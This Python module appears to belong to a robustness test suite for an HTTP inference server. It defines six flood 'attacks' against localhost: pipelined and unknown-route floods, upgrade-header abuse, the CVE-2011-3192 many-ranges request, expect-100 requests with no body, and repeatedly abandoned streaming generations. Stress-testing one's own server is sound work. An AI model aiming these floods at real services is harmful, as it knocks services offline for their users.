"""Floods of requests over HTTP/1.1 that cost a client nothing."""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING

from .catalog import attack
from .driver import Burst

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .driver import Driver


def _flood(request: bytes, together: int = 500) -> Iterator[Burst | float]:
    yield from itertools.repeat(Burst(request * together, together))


@attack("http", pace="flood")
def pipelining_flood(driver: Driver) -> None:
    """Asks without waiting for the answers, which it reads."""
    driver.play(lambda: _flood(b"GET /v1/models HTTP/1.1\r\nhost: localhost\r\n\r\n"), 4)


@attack("http", pace="flood")
def unknown_routes(driver: Driver) -> None:
    """Asks for what does not exist, without waiting for the answers."""
    driver.play(lambda: _flood(b"GET /no/such/route HTTP/1.1\r\nhost: localhost\r\n\r\n"), 4)


@attack("http", pace="flood")
def upgrades(driver: Driver) -> None:
    """Asks for HTTP/2 and web sockets in place of HTTP/1.1."""
    offers = [
        b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\n"
        b"http2-settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
        b"connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        b"sec-websocket-version: 13\r\n",
        b"connection: upgrade\r\nupgrade: " + b"a/1, " * 500 + b"z\r\n",
    ]
    requests = itertools.cycle([b"GET /health HTTP/1.1\r\nhost: localhost\r\n" + o + b"\r\n" for o in offers])
    driver.play(lambda: _flood(next(requests), 50), 6)


@attack("http", pace="flood")
def ranges(driver: Driver) -> None:
    """Asks for a thousand ranges of an answer (CVE-2011-3192)."""
    many = b",".join(b"%d-%d" % (n, n + 1) for n in range(1000))
    request = b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\nrange: bytes=" + many + b"\r\n\r\n"
    driver.play(lambda: _flood(request, 10), 2)


@attack("http", pace="flood")
def expectations(driver: Driver) -> None:
    """Asks whether it may send a body, and sends none."""
    request = (
        b"POST /generate HTTP/1.1\r\nhost: localhost\r\nexpect: 100-continue\r\n"
        b"content-type: application/json\r\ncontent-length: 20000\r\n\r\n"
    )

    def script() -> Iterator[Burst | float]:
        yield Burst(request)
        yield 0.02

    driver.play(script, 50, hang_up=True)


@attack("http", pace="flood")
def abandoned_streams(driver: Driver) -> None:
    """Asks for a stream of events and hangs up, again and again."""
    body = b'{"text": "hi", "sampling_params": {"max_new_tokens": 10000}, "stream": true}'
    head = b"POST /generate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"

    def script() -> Iterator[Burst | float]:
        yield Burst(head + b"content-length: %d\r\n\r\n" % len(body) + body)
        yield 0.002

    driver.play(script, 10, hang_up=True)
